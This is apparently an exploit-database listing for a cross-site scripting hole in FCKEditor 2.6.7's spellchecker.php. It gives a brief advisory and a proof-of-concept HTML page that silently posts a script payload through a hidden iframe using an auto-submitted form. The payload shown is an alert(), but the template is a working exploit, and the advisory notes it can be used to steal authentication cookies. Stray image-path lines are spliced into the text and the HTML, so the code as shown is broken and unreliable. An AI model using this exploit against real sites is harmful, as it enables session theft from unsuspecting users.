FCKEditor Core - Editor spellchecker.php Cross-Site Scripting

Type exploitpack
Reporter Emilio Pinna
Modified 2012-06-25T00:00:00


FCKEditor Core - Editor spellchecker.php Cross-Site Scripting

                                            source: https://www.securityfocus.com/bid/54188/info

FCKEditor is prone to a cross-site scripting vulnerability because it fails to sanitize user-supplied input.

An attacker may leverage this issue to execute arbitrary script code in the browser of an unsuspecting user in the context of the affected site. This may allow the attacker to steal cookie-based authentication credentials and launch other attacks.FCKEditor 2.6.7 is vulnerable; prior versions may also be affected.

<html> <body> <iframe style="width: 1px; height: 1px; visibility: hidden"name="hidden"></iframe> <form method="post" name="sender" action="http://www.example.com/fckeditor/editor/dialog/fck_spellerpages/spellerpages/server-scripts/spellchecker.php"; target="hidden"> <input type="hidden" name="textinputs[]" value='");alert("THIS SITE IS XSS VULNERABLE!");</script><!--' /></form> </body> <script>document.sender.submit(); </script> </html>